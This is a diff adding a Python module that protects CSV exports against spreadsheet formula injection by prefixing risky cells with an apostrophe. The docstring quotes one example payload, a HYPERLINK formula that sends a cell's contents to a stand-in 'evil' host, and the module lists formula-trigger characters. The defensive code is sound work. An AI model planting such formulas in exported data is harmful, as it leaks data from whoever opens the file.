@@ -1,0 +1,45 @@
+"""Files people open in a spreadsheet: every cell goes through ``safe_cell`` first.
+
+A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
+(and a leading tab or carriage return can hide such a start), so a talent who names themselves
+``=HYPERLINK("http://evil/?"&A1, "Click")`` would run code in the partner's accounting office.
+A leading apostrophe makes the program show the text as typed. Every export (CSV files here;
+spreadsheets and reports later) writes its cells through this one function.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from collections.abc import Iterable, Sequence
+
+# What makes a spreadsheet program read a cell as a formula (OWASP's CSV injection list).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def safe_cell(value: object) -> object:
+    """A cell that a spreadsheet shows as text, never runs: numbers stay numbers."""
+    if value is None:
+        return ""
+    if isinstance(value, bool | int | float):
+        return value
+    text = str(value)
+    return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def safe_row(row: Iterable[object]) -> list[object]:
+    """Every cell of a row through ``safe_cell``."""
+    return [safe_cell(value) for value in row]
+
+
+def csv_bytes(header: Sequence[str], rows: Iterable[Iterable[object]]) -> bytes:
+    """A CSV file of ``rows`` under ``header``, every cell made safe, in UTF-8 with a BOM.
+
+    The BOM is what makes spreadsheet programs read Chinese text in a CSV file correctly.
+    """
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(safe_row(header))
+    for row in rows:
+        writer.writerow(safe_row(row))
+    return out.getvalue().encode("utf-8-sig")
